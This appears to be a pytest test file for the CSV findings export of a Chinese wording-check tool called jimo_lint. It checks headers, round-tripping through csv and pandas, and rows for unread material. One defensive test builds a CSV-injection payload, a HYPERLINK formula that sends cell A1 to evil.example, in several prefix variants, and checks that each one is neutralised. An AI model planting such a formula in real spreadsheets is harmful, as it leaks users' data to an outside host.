"""The findings as one flat table: read back by csv and pandas as they were, with what was not looked at."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from collections.abc import Sequence
from dataclasses import replace
from datetime import datetime
from pathlib import Path

import pandas as pd
import pytest

from jimo_lint.cli import run
from jimo_lint.inspection import INSPECTIONS
from jimo_lint.model import Report
from jimo_lint.report import render
from jimo_lint.report.machine.csv import TITLES
from jimo_lint.report.views.findings import findings
from tests.support import report_samples as samples
from tests.support.numberforms import PHONE

pytestmark = pytest.mark.slow

REPORTS = {**samples.REPORTS, "partial": samples.partial}
UNSEEN = "未检"
BOM = "\ufeff"


def rows(report: Report) -> list[dict[str, str]]:
    """The rows by the titles of their fields, as the csv module reads the file."""
    written = render("csv", report).encode("utf-8")
    return list(csv.DictReader(io.StringIO(written.decode("utf-8-sig"), newline=""), strict=True))


def split(report: Report) -> tuple[list[dict[str, str]], list[dict[str, str]]]:
    """The rows of findings, and those of what was not looked at."""
    read = rows(report)
    return [row for row in read if row["级别"] != UNSEEN], [row for row in read if row["级别"] == UNSEEN]


def one(**fields: object) -> dict[str, str]:
    """The row of a wrong word, with these fields."""
    report = replace(samples.check(), findings=(samples.word_finding(**fields),))
    return split(report)[0][0]


@pytest.mark.parametrize("name", REPORTS)
def test_every_finding_has_its_row(name: str) -> None:
    """In their order, numbered through, with the words of 问题明细."""
    report = REPORTS[name]()
    found, unseen = split(report)
    assert [(row["代码"], row["级别"], row["说明"]) for row in found] == [
        (finding.code, finding.severity.label, finding.message) for finding in report.findings
    ]
    assert [row["序号"] for row in (*found, *unseen)] == [str(number) for number in range(1, len(rows(report)) + 1)]
    assert unseen, "each sample has something that was not read"
    assert {row["问题类型"] for row in unseen} == {"未读与未检"}
    assert all(row["说明"] for row in unseen)


@pytest.mark.parametrize("name", REPORTS)
def test_the_head_is_the_same_for_every_inspection(name: str) -> None:
    """So that tables can be put together; it has what the sheet has, but for what people fill in and click."""
    first = render("csv", REPORTS[name]()).splitlines()[0]
    assert first == BOM + ",".join(TITLES)
    table = findings(REPORTS[name](), "账号或栏目")
    assert {field.title for field in table.fields if not field.style.startswith("entry")} - set(TITLES) == {"打开"}


def test_a_report_without_findings_has_its_head() -> None:
    """A program that reads it needs no case of its own, and nothing is made up."""
    report = replace(samples.check(), findings=(), problems=())
    assert render("csv", report) == BOM + ",".join(TITLES) + "\n"


@pytest.mark.parametrize("name", REPORTS)
def test_pandas_reads_it_as_the_csv_module_does(name: str) -> None:
    """Whole numbers stay whole where others are blank, and blank is blank."""
    written = render("csv", REPORTS[name]()).encode("utf-8")
    frame = pd.read_csv(io.BytesIO(written), dtype=str, keep_default_na=False)
    assert frame.to_dict("records") == rows(REPORTS[name]())
    assert all(value.isdigit() for title in ("出现处数", "行", "列") for value in frame[title] if value)
    days = [day for day in frame["发布时间"] if day]
    assert pd.to_datetime(pd.Series(days), format="%Y-%m-%d").notna().all()


def test_values_come_back_as_they_were() -> None:
    """Commas, quotes and line breaks, a very long address, and the day without its hour."""
    address = "https://www.yunxi.example/list?" + "&".join(f"键{number}=值" for number in range(400))
    said = '注明“甲”,"乙"\r\n第二行\r第三行'
    row = one(message=said, url=address, published=datetime(2026, 3, 5, 23, 59), pages=3)
    assert row["说明"] == '注明“甲”,"乙"\n第二行\n第三行'
    assert row["网址"] == address
    assert (row["发布时间"], row["出现处数"]) == ("2026-03-05", "3")
    assert (row["行"], row["列"]) == ("1", "22")


@pytest.mark.parametrize("text", ["NA", "nan", "None", "001", "1-2", "", "  部署"])
def test_words_that_libraries_have_a_meaning_for_are_words(text: str) -> None:
    """Nothing is taken for missing or for a number on the way into the file."""
    assert one(message=text)["说明"] == text


@pytest.mark.parametrize("mark", ["=", "+", "-", "@", "＝", "＋", "－", "＠", " =", "　=", "\t=", "\r\n="])
@pytest.mark.parametrize("field", ["message", "subject", "url", "locator", "excerpt", "owner"])
def test_no_cell_is_a_formula(mark: str, field: str) -> None:
    """Whatever a page says, a spreadsheet calculates nothing of it; the text itself stays to be seen."""
    hostile = f'{mark}HYPERLINK("http://evil.example?"&A1,"点我")'
    fields: dict[str, object] = {field: hostile}
    if field == "excerpt":
        fields |= {"excerpt_start": 0}
    values = [value for value in one(**fields).values() if "HYPERLINK" in value]
    assert values
    assert all(value.startswith("'") for value in values)


@pytest.mark.parametrize("text", ["——部署", "（-5℃）", "a=b", "一、+86", "‘=’"])
def test_what_only_looks_like_a_formula_stays(text: str) -> None:
    """Nothing is put before it."""
    assert one(message=text)["说明"] == text


def test_nothing_acts_on_a_screen() -> None:
    """Controls and marks that turn the direction are seen instead, and half a character is none."""
    written = render("csv", replace(samples.check(), findings=(samples.word_finding("坏\x1b[31m\ud800\u202e字"),)))
    assert not {"\x1b", "\u202e", "\ud800"} & set(written)


@pytest.mark.parametrize(
    ("report", "said"),
    [
        (samples.weekly(), ["存档读不出", "不是有效的工作簿"]),
        (samples.columns(), ["未能判定：列表由脚本生成，读不到", "列表由脚本生成，读不到"]),
        (samples.check(), ["读不出，请重新存一份"]),
        (samples.asked(), ["链接没有检查：", "不是网址"]),
        (samples.partial(), ["部分检查", "没有核对链接", "附件（.pdf） 3 个、图片 40 张没有打开"]),
        (replace(samples.check(), run=samples.run("check", complete=False)), ["采集没有完成"]),
        (replace(samples.columns(), unopened=samples.partial().unopened), ["没有打开，内容没有检查"]),
    ],
    ids=["weekly", "columns", "check", "links", "partial", "incomplete", "unopened"],
)
def test_what_was_not_looked_at_has_rows(report: Report, said: Sequence[str]) -> None:
    """Columns and accounts not judged, files not read, links not asked, files not opened, rules not in force."""
    told = [row["说明"] for row in split(report)[1]]
    for words in said:
        assert any(words in one for one in told), told


def test_what_was_not_read_is_never_lost_beside_findings() -> None:
    """Without a finding the rows stand all the same, with the place."""
    found, unseen = split(replace(samples.check(), findings=()))
    assert not found
    assert [(row["网址"], row["级别"]) for row in unseen] == [("稿件/坏.docx", UNSEEN)]


def test_check_links_and_inspect_write_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each by -f, an inspection by the name of its file too; the exit code is that of the findings."""
    monkeypatch.chdir(tmp_path)
    Path("坏稿.txt").write_text(f"会议研究布署工作。\n联系人李工，手机{PHONE}。\n", encoding="utf-8")
    assert run(["check", "--isolated", "坏稿.txt", "没有.txt", "-f", "csv:出/明细.csv", "-f", "line"]) == 2
    raw = Path("出/明细.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and PHONE not in raw.decode("utf-8")
    read = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert ("布署", "部署", "坏稿.txt", "1") in {
        (row["错敏词"], row["推荐修改"], row["网址"], row["行"]) for row in read
    }
    assert [row["网址"] for row in read if row["级别"] == UNSEEN] == ["没有.txt"]
    Path("清单.txt").write_text("不是网址\n", encoding="utf-8")
    run(["links", "清单.txt", "-f", "csv:链接.csv"])
    assert Path("链接.csv").read_text(encoding="utf-8-sig").startswith(",".join(TITLES))
    Path("甲.csv").write_text("标题,发布时间\n研究布署工作,2026-11-20\n", encoding="utf-8")
    Path("jimo-lint.toml").write_text(
        '[[account]]\nname = "云溪发布"\nplatform = "wechat"\narchive = "甲.csv"\n', encoding="utf-8"
    )
    # In a process of its own, since it collects.
    inspect = ["inspect", "weekly", "--no-links", "--as-of", "2026-11-22", "-f", "line", "-o", "周检.csv"]
    subprocess.run([sys.executable, "-m", "jimo_lint", *inspect], check=False, capture_output=True, timeout=120)
    read = list(csv.DictReader(io.StringIO(Path("周检.csv").read_text(encoding="utf-8-sig"), newline="")))
    assert ("云溪发布", "布署") in {(row["账号或栏目"], row["错敏词"]) for row in read}
    assert any("没有核对链接" in row["说明"] for row in read if row["级别"] == UNSEEN)


@pytest.mark.parametrize(
    "arguments",
    [
        ["check", "--isolated", "稿.txt"],
        ["inspect", "weekly", "--no-links", "--as-of", "2026-11-22", "-f", "text", "-f", "xlsx:周检.xlsx"],
    ],
    ids=["check", "weekly"],
)
def test_only_the_table_loads_pandas(arguments: list[str], tmp_path: Path) -> None:
    """Its import takes longer than a check: who does not ask for a table does not pay for it."""
    (tmp_path / "稿.txt").write_text("会议研究部署工作。\n", encoding="utf-8")
    (tmp_path / "甲.csv").write_text("标题,发布时间\n研究部署工作,2026-11-20\n", encoding="utf-8")
    (tmp_path / "jimo-lint.toml").write_text(
        '[[account]]\nname = "云溪发布"\nplatform = "wechat"\narchive = "甲.csv"\n', encoding="utf-8"
    )
    script = (
        "import json, sys\nfrom jimo_lint.cli import run\ncode = run(sys.argv[1:])\n"
        "print(json.dumps([code, 'pandas' in sys.modules]), file=sys.stderr)"
    )
    told = []
    for given in (arguments, [*arguments, "-f", "csv:明细.csv"]):
        command = [sys.executable, "-c", script, *given]
        ended = subprocess.run(command, cwd=tmp_path, check=True, capture_output=True, text=True, timeout=120)
        told.append(json.loads(ended.stderr.splitlines()[-1]))
    assert told == [[0, False], [0, True]]
    assert (tmp_path / "明细.csv").is_file()


def test_there_is_a_table_of_every_inspection() -> None:
    """What is tested above leaves none out."""
    assert set(INSPECTIONS) <= set(REPORTS)
